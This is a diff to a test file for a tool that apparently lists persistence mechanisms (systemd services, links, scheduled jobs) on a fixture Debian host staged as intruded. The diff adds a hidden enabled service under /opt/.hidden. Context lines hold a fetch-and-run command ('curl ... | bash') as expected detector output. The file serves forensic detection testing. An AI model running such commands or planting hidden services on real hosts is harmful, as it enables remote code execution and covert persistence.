@@ -19,6 +19,7 @@ const PAM = 'auth required pam_unix.so\n'
 /** A Debian host that an intruder has visited. */
 const FILES: Record<string, string> = {
   'etc/debian_version': '12.0\n',
+  'opt/.hidden/far.service': '[Service]\nExecStart=/opt/.hidden/far\n',
   'etc/passwd':
     'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/home/alice:/bin/bash\nsvc:x:9:9::/nonexistent:/bin/false\n',
   'usr/lib/systemd/system/good.service': UNIT,
@@ -82,6 +83,7 @@ const FILES: Record<string, string> = {
 
 const LINKS: Record<string, string> = {
   'etc/systemd/system/multi-user.target.wants/good.service': '/usr/lib/systemd/system/good.service',
+  'etc/systemd/system/multi-user.target.wants/far.service': '/opt/.hidden/far.service',
   'etc/systemd/system/timers.target.wants/tick.timer': '/usr/lib/systemd/system/tick.timer',
   'etc/systemd/system/multi-user.target.wants/in@tty1.service': '/usr/lib/systemd/system/in@.service',
   'etc/systemd/system/multi-user.target.wants/masked.service': '/usr/lib/systemd/system/masked.service',
@@ -124,6 +126,7 @@ test('each kind is read by its own rules', async t => {
     'job: curl -s http://192.0.2.1/x | bash'
   ])
   assert.deepEqual(await of('service'), [
+    'far.service: /opt/.hidden/far',
     'good.service: /usr/sbin/good --now',
     'in@.service: /usr/bin/in %i',
     'masked.service: /usr/bin/masked',
@@ -180,6 +183,7 @@ test('enabled is what a link wants, and what that triggers or pulls in; what is 
       .sort(),
     [
       '10-more.conf',
+      'far.service',
       'good.service',
       'in@.service',
       'mine.service',
